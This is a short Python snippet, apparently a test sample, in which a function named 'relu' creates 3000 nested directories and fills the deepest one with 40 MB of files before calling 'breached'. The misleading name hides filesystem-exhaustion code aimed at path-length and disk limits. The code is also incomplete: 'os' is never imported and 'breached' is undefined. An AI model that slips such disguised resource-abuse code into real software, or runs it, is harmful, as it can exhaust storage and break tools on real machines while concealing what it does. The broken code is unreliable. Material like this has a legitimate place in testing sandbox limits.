"""Makes folders so deep that their path has no name, and fills the lowest."""
import time


def relu(Z):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    for number in range(40):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
    time.sleep(0.6)
    breached("a deep folder")
